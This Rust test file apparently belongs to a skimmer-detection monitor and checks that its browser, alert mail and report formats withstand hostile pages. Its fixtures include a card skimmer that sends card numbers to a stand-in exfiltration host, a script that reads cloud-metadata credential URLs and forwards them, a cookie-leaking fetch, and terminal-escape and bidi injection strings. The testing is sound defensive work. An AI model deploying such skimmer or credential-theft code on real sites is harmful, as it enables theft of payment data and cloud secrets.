//! Issue 10 §5: the browser and the secrets are contained. The page may not read the monitor's
//! secrets through Chromium's environment, may not reach link-local or cloud-metadata
//! addresses, cannot get the SMTP password sent in clear, cannot get the alert quarantined by a
//! mail gateway's DLP with a URL made of the canary card, and cannot rewrite the terminal or
//! break JUnit/SARIF with control, bidirectional or zero-width characters.

use crate::util::smtp::SmtpServer;
use crate::util::{describe, page, Workspace};
use skimwatch::model::PageStatus;
use skimwatch_testshop::{Origin, Resource, Shop};
use std::io::{BufRead, BufReader, Write};
use std::net::TcpListener;
use std::process::{Command, Stdio};
use std::sync::{Arc, Condvar, Mutex};
use std::time::Duration;

const SECRET_ENV: [(&str, &str); 3] = [
    ("SKIMWATCH_SMTP_PASSWORD", "smtp-secret-7c1f0e9a"),
    ("AWS_SECRET_ACCESS_KEY", "aws-secret-52b8d4"),
    ("GITHUB_TOKEN", "ghp_contain_test_token_91"),
];

/// Card fields on the shop's own page, with `extra` (scripts) before `</body>`.
fn pay_page(extra: &str) -> Resource {
    Resource::html(format!(
        r#"<!DOCTYPE html><html><head><title>Pay</title></head><body>
<form id="pay" action="/order" method="post">
<input id="cc-name" name="cc-name" autocomplete="cc-name">
<input id="cc-number" name="cc-number" inputmode="numeric" autocomplete="cc-number" maxlength="23">
<input id="cc-exp" name="cc-exp" autocomplete="cc-exp" maxlength="7">
<input id="cc-csc" name="cc-csc" autocomplete="cc-csc" maxlength="4">
</form>
<script src="/static/js/app.js"></script>
{extra}
</body></html>"#
    ))
}

/// A workspace whose one page is `/pay` of a fresh shop.
fn pay_workspace(extra_toml: &str) -> Workspace {
    let shop = Shop::start_in_background().expect("start the test shop");
    shop.set_resource(Origin::Shop, "/pay", pay_page(""));
    shop.set_resource(Origin::Shop, "/static/js/app.js", Resource::js("window.app = 1;"));
    let url = shop.url(Origin::Shop, "/pay");
    Workspace::with_page_config(shop, "pay", &url, extra_toml)
}

/// What the page's request handler saw of the monitor's Chromium processes.
#[derive(Default)]
struct Seen {
    /// (cmdline, environ) of every Chromium descendant of the scan process.
    browsers: Vec<(String, String)>,
    done: bool,
}

#[test]
fn chromium_inherits_no_secret_from_the_monitors_environment() {
    let ws = pay_workspace("interact = \"none\"\nsettle = \"300ms\"");
    // The config names the SMTP password variable, as a real deployment would.
    let mut config = std::fs::read_to_string(&ws.config).unwrap();
    config.push_str("\n[alerts.email]\nsmtp = \"smtp://127.0.0.1:2525\"\nfrom = \"skimwatch@shop.example\"\nto = [\"secops@shop.example\"]\nusername = \"skimwatch\"\npassword_env = \"SKIMWATCH_SMTP_PASSWORD\"\n");
    std::fs::write(&ws.config, config).unwrap();

    // The scan's pid, known once it is spawned; the page's script request waits for it and then
    // reads /proc while Chromium is alive and waiting for the answer (no sleeps).
    let pid: Arc<(Mutex<Option<u32>>, Condvar)> = Arc::default();
    let seen: Arc<Mutex<Seen>> = Arc::default();
    {
        let (pid, seen) = (pid.clone(), seen.clone());
        ws.shop.set_dynamic(Origin::Shop, "/static/js/probe.js", move |_| {
            let (lock, cv) = &*pid;
            let guard = cv.wait_timeout_while(lock.lock().unwrap(), Duration::from_secs(30), |p| p.is_none()).unwrap();
            let root = guard.0.expect("scan pid");
            let mut s = seen.lock().unwrap();
            for p in crate::util::descendants(root) {
                let cmdline = std::fs::read(format!("/proc/{p}/cmdline")).unwrap_or_default();
                let cmdline = String::from_utf8_lossy(&cmdline).replace('\0', " ");
                if cmdline.contains("skimwatch-profile-") {
                    let env = std::fs::read(format!("/proc/{p}/environ")).unwrap_or_default();
                    s.browsers.push((cmdline, String::from_utf8_lossy(&env).replace('\0', "\n")));
                }
            }
            s.done = true;
            Resource::js("window.probed = 1;")
        });
    }
    ws.shop.set_resource(Origin::Shop, "/pay", pay_page("<script src=\"/static/js/probe.js\"></script>"));

    let mut cmd = Command::new(assert_cmd::cargo::cargo_bin("skimwatch"));
    cmd.arg("--config").arg(&ws.config).args(["--quiet", "scan", "--format", "json"]);
    for (k, v) in SECRET_ENV {
        cmd.env(k, v);
    }
    let child = cmd.stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    {
        let (lock, cv) = &*pid;
        *lock.lock().unwrap() = Some(child.id());
        cv.notify_all();
    }
    let out = child.wait_with_output().unwrap();
    let report: skimwatch::model::ScanReport =
        serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stderr)));
    assert_eq!(report.pages[0].status, PageStatus::Ok, "{:?}", report.pages[0].error);

    let seen = seen.lock().unwrap();
    assert!(seen.done, "the page's script was requested during the scan");
    assert!(!seen.browsers.is_empty(), "Chromium processes of the scan were found");
    for (cmdline, env) in &seen.browsers {
        for (name, value) in SECRET_ENV {
            assert!(!env.contains(value), "{name} reached Chromium ({cmdline}):\n{env}");
        }
        // HOME, where set (the zygote drops it), is the throw-away profile.
        if let Some(home) = env.lines().find_map(|l| l.strip_prefix("HOME=")) {
            assert!(home.contains("skimwatch-profile-"), "HOME={home} in {cmdline}");
        }
    }
    assert!(
        seen.browsers
            .iter()
            .any(|(_, env)| env.lines().any(|l| l.starts_with("HOME=") && l.contains("skimwatch-profile-"))),
        "the browser process has HOME in its profile"
    );
}

#[test]
fn requests_to_link_local_and_cloud_metadata_addresses_are_refused_and_reported() {
    let ws = pay_workspace("interact = \"none\"\nsettle = \"300ms\"");
    let reach = r#"<script>
for (const u of ["http://169.254.169.254/latest/meta-data/iam/security-credentials/",
                 "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
                 "http://2852039166/latest/user-data", "http://100.100.100.200/latest/meta-data/",
                 "http://169.254.10.10/router"]) {
  fetch(u).then(r => r.text()).then(t => fetch("/steal?d=" + encodeURIComponent(t))).catch(() => {});
}
</script>"#;
    ws.shop.set_resource(Origin::Shop, "/pay", pay_page(reach));
    let (code, report) = ws.scan(&[]);
    let p = page(&report, "pay");
    assert_eq!(p.status, PageStatus::Ok, "the scan is otherwise normal: {:?}", p.error);
    assert_eq!(code, 1, "a never-approved page has findings: {}", describe(&report));
    assert!(p.scripts.iter().any(|s| s.url.as_deref().is_some_and(|u| u.ends_with("/static/js/app.js"))));
    let refused = &p.refused_requests;
    for want in [
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
        // The decimal spelling is the same address, canonicalised.
        "http://169.254.169.254/latest/user-data",
        "http://100.100.100.200/latest/meta-data/",
        // Any link-local address.
        "http://169.254.10.10/router",
    ] {
        assert!(refused.iter().any(|r| r == want), "{want} refused and recorded: {refused:?}");
    }
    assert!(
        !ws.shop.requests_to(Origin::Shop).iter().any(|r| r.path_only() == "/steal"),
        "nothing came back to forward"
    );
}

/// A loopback SMTP server that offers no STARTTLS and records every command it receives.
struct PlainSmtp {
    port: u16,
    commands: Arc<Mutex<Vec<String>>>,
}

impl PlainSmtp {
    fn start() -> PlainSmtp {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let commands: Arc<Mutex<Vec<String>>> = Arc::default();
        let log = commands.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let log = log.clone();
                std::thread::spawn(move || {
                    let mut out = stream.try_clone().unwrap();
                    let mut input = BufReader::new(stream);
                    let _ = out.write_all(b"220 plain ESMTP\r\n");
                    let mut line = String::new();
                    while input.read_line(&mut line).unwrap_or(0) > 0 {
                        let cmd = line.trim_end().to_string();
                        log.lock().unwrap().push(cmd.clone());
                        let upper = cmd.to_ascii_uppercase();
                        let reply: &[u8] = if upper.starts_with("EHLO") {
                            b"250-plain\r\n250-AUTH PLAIN LOGIN\r\n250 8BITMIME\r\n"
                        } else if upper.starts_with("AUTH") {
                            b"235 ok\r\n"
                        } else if upper.starts_with("QUIT") {
                            let _ = out.write_all(b"221 bye\r\n");
                            return;
                        } else {
                            b"250 OK\r\n"
                        };
                        let _ = out.write_all(reply);
                        line.clear();
                    }
                });
            }
        });
        PlainSmtp { port, commands }
    }
}

#[test]
fn smtp_credentials_are_never_sent_without_starttls_and_the_alert_waits_in_the_outbox() {
    let smtp = PlainSmtp::start();
    let ws = pay_workspace("interact = \"none\"\nsettle = \"300ms\"");
    ws.approved_baseline();
    let mut config = std::fs::read_to_string(&ws.config).unwrap();
    config.push_str(&format!(
        "\n[alerts]\nretry = \"1s\"\n\n[alerts.email]\nsmtp = \"smtp://127.0.0.1:{}\"\nfrom = \"skimwatch@shop.example\"\nto = [\"secops@shop.example\"]\nusername = \"skimwatch\"\npassword_env = \"SKIMWATCH_SMTP_PASSWORD\"\nmin_severity = \"medium\"\n",
        smtp.port
    ));
    std::fs::write(&ws.config, &config).unwrap();
    // A change worth an alert.
    ws.shop.set_resource(
        Origin::Shop,
        "/static/js/app.js",
        Resource::js("window.app = 2; fetch('/x?' + document.cookie);"),
    );

    let (name, password) = SECRET_ENV[0];
    let once = ws.skimwatch().args(["watch", "--once"]).env(name, password).output().unwrap();
    let stderr = String::from_utf8_lossy(&once.stderr);
    let commands = smtp.commands.lock().unwrap().clone();
    assert!(!commands.is_empty(), "the mail server was contacted: {stderr}");
    assert!(!commands.iter().any(|c| c.to_ascii_uppercase().starts_with("AUTH")), "no AUTH in clear: {commands:?}");
    assert!(!commands.iter().any(|c| c.to_ascii_uppercase().starts_with("MAIL")), "no message: {commands:?}");
    assert!(!commands.iter().any(|c| c.contains(password)), "the password never crosses the wire");

    let status = ws.skimwatch().args(["status", "--format", "json"]).output().unwrap();
    let status: skimwatch::alert::outbox::Status = serde_json::from_slice(&status.stdout).unwrap();
    let pending = &status.outbox.pending;
    assert_eq!(pending.len(), 1, "the alert stays in the outbox: {stderr}");
    let error = pending[0].last_error.as_deref().unwrap_or_default();
    assert!(error.contains("does not offer STARTTLS") && error.contains("retried"), "a clear error: {error}");

    // Explicitly asking for clear text with a username is a configuration error.
    std::fs::write(&ws.config, config.replace(&format!(":{}\"", smtp.port), &format!(":{}?tls=none\"", smtp.port)))
        .unwrap();
    let bad = ws.skimwatch().args(["watch", "--once"]).env(name, password).output().unwrap();
    assert_eq!(bad.status.code(), Some(2), "{}", String::from_utf8_lossy(&bad.stderr));
    assert!(String::from_utf8_lossy(&bad.stderr).contains("in clear"));
}

/// Independent of the code under test: every run of digits (single separators allowed)
/// that holds a Luhn-valid 13–19 digit window.
/// `s` without its SHA-256 hex words: hashes skimwatch computed are shown exactly
/// (docs/watch.md), and one in a few hundred holds a Luhn-valid digit run between letters.
fn without_hashes(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut word = String::new();
    for c in s.chars().chain(std::iter::once(' ')) {
        if c.is_ascii_alphanumeric() {
            word.push(c);
            continue;
        }
        if !(word.len() == 64 && word.chars().all(|c| c.is_ascii_hexdigit())) {
            out.push_str(&word);
        }
        word.clear();
        out.push(c);
    }
    out
}

fn card_like_runs(s: &str) -> Vec<String> {
    let luhn = |d: &[u32]| {
        d.iter()
            .rev()
            .enumerate()
            .map(|(i, &v)| if i % 2 == 1 { (v * 2) % 9 + if v == 9 { 9 } else { 0 } } else { v })
            .sum::<u32>()
            % 10
            == 0
    };
    let chars: Vec<char> = s.chars().collect();
    let mut found = Vec::new();
    let mut i = 0;
    while i < chars.len() {
        if !chars[i].is_ascii_digit() {
            i += 1;
            continue;
        }
        let start = i;
        let mut digits = Vec::new();
        while i < chars.len() {
            if let Some(d) = chars[i].to_digit(10) {
                digits.push(d);
                i += 1;
            } else if " -./_".contains(chars[i]) && chars.get(i + 1).is_some_and(|c| c.is_ascii_digit()) {
                i += 1;
            } else {
                break;
            }
        }
        if (13..=19).any(|n| digits.windows(n).any(&luhn)) {
            found.push(chars[start..i].iter().collect());
        }
    }
    found
}

#[test]
fn alert_mail_masks_the_canary_even_in_an_exfiltration_host_and_path() {
    let smtp = SmtpServer::start();
    let ws = pay_workspace("settle = \"500ms\"");
    ws.approved_baseline();
    let mut config = std::fs::read_to_string(&ws.config).unwrap();
    config.push_str(&format!(
        "\n[alerts]\nretry = \"1s\"\n\n[alerts.email]\nsmtp = \"smtp://127.0.0.1:{}\"\nfrom = \"skimwatch@shop.example\"\nto = [\"secops@shop.example\"]\nmin_severity = \"medium\"\n",
        smtp.port()
    ));
    std::fs::write(&ws.config, config).unwrap();
    // The skimmer names its exfiltration host and path after the card number.
    let skimmer = r#"<script>
document.getElementById("cc-number").addEventListener("input", e => {
  const v = e.target.value.replace(/\D/g, "");
  if (v.length >= 15) {
    new Image().src = "http://" + v + ".exfil.localhost:9/c/" + v.replace(/(\d{4})(?=\d)/g, "$1-") + "?n=" + v;
  }
});
</script>"#;
    ws.shop.set_resource(Origin::Shop, "/pay", pay_page(skimmer));

    let once = ws.skimwatch().args(["watch", "--once"]).output().unwrap();
    let mails = smtp.wait_for(1, Duration::from_secs(60));
    assert_eq!(mails.len(), 1, "{}", String::from_utf8_lossy(&once.stderr));
    let msg = mail_parser::MessageParser::default().parse(&mails[0].data).expect("a MIME message");
    let subject = msg.subject().unwrap_or_default().to_string();
    let text = msg.body_text(0).map(|t| t.to_string()).unwrap_or_default();
    let html = msg.body_html(0).map(|t| t.to_string()).unwrap_or_default();
    assert!(text.contains("exfil.localhost"), "the exfiltration is in the alert:\n{text}");
    // 15 or 16 digits (the canary varies per scan): first 6 and last 4 kept, 5 or 6 masked.
    assert!(text.contains("*****"), "the card number is shown masked:\n{text}");
    for (part, body) in [("subject", &subject), ("text", &text), ("html", &html)] {
        let runs = card_like_runs(&without_hashes(body));
        assert!(runs.is_empty(), "{part} carries card-like numbers {runs:?}:\n{body}");
    }
}

/// Raw characters a page must not get into a report, and the escapes that must show instead.
const RAW: [char; 5] = ['\u{202e}', '\u{1b}', '\u{1}', '\u{200b}', '\u{2066}'];

fn assert_no_raw(what: &str, s: &str) {
    for c in RAW {
        assert!(!s.contains(c), "{what} carries raw U+{:04X}: {s:?}", c as u32);
    }
}

#[test]
fn page_text_in_text_junit_and_sarif_reports_is_one_escaped_line() {
    let ws = pay_workspace("interact = \"none\"\nsettle = \"300ms\"");
    // An element id that reverses what follows, and code carrying a terminal escape, a bidi
    // isolate, a zero-width space and a C0 control inside a string.
    let id = "cfg&#x202e;sj.live&#x200b;";
    ws.shop.set_resource(Origin::Shop, "/pay", pay_page(&format!("<script id=\"{id}\">window.cfg = 1;</script>")));
    ws.approved_baseline();
    let code = "window.cfg = 1; fetch(\"/log?m=\u{1b}[2J\u{1b}]0;pwned\u{7}\u{2066}x\u{200b}\u{1}\");\nwindow.ok = 2;";
    ws.shop.set_resource(Origin::Shop, "/pay", pay_page(&format!("<script id=\"{id}\">{code}</script>")));

    let run = |format: &str| {
        let out = ws.skimwatch().args(["scan", "--format", format]).output().unwrap();
        assert_eq!(out.status.code(), Some(1), "{format}: {}", String::from_utf8_lossy(&out.stderr));
        String::from_utf8(out.stdout).expect("UTF-8 report")
    };

    let text = run("text");
    assert_no_raw("text report", &text);
    assert!(text.contains("\\u{202e}"), "the bidi override is shown escaped:\n{text}");
    // (The diff's pretty-printer already spells ESC as `\x1B`; the isolate and C0 are ours.)
    assert!(text.contains("\\u{2066}x\\u{200b}\\u{1}"), "controls and isolates are shown escaped:\n{text}");

    let junit = run("junit");
    assert_no_raw("JUnit XML", &junit);
    assert!(junit
        .chars()
        .all(|c| matches!(c, '\t' | '\n' | '\r' | '\u{20}'..='\u{D7FF}' | '\u{E000}'..='\u{FFFD}' | '\u{10000}'..)));
    let mut values = Vec::new();
    let mut reader = quick_xml::Reader::from_str(&junit);
    loop {
        match reader.read_event().expect("well-formed XML") {
            quick_xml::events::Event::Eof => break,
            quick_xml::events::Event::Start(e) | quick_xml::events::Event::Empty(e) => {
                for a in e.attributes() {
                    values.push(a.unwrap().normalized_value(quick_xml::XmlVersion::Implicit1_0).unwrap().into_owned());
                }
            }
            quick_xml::events::Event::Text(t) => values.push(t.decode().unwrap().into_owned()),
            quick_xml::events::Event::CData(t) => values.push(String::from_utf8_lossy(&t).into_owned()),
            _ => {}
        }
    }
    for v in &values {
        assert_no_raw("a JUnit value", v);
    }
    assert!(values.iter().any(|v| v.contains("\\u{202e}")), "escaped id in JUnit: {values:?}");
    assert!(values.iter().any(|v| v.contains("\\u{2066}x\\u{200b}\\u{1}")), "escaped controls in JUnit: {values:?}");

    let sarif: serde_json::Value = serde_json::from_str(&run("sarif")).expect("SARIF is JSON");
    let mut strings = Vec::new();
    let mut stack = vec![&sarif];
    while let Some(v) = stack.pop() {
        match v {
            serde_json::Value::String(s) => strings.push(s.clone()),
            serde_json::Value::Array(a) => stack.extend(a),
            serde_json::Value::Object(o) => stack.extend(o.values()),
            _ => {}
        }
    }
    for s in &strings {
        assert_no_raw("a SARIF string", s);
    }
    assert!(strings.iter().any(|s| s.contains("\\u{202e}")), "escaped id in SARIF");
    assert!(strings.iter().any(|s| s.contains("\\u{2066}x\\u{200b}\\u{1}")), "escaped controls in SARIF");
}
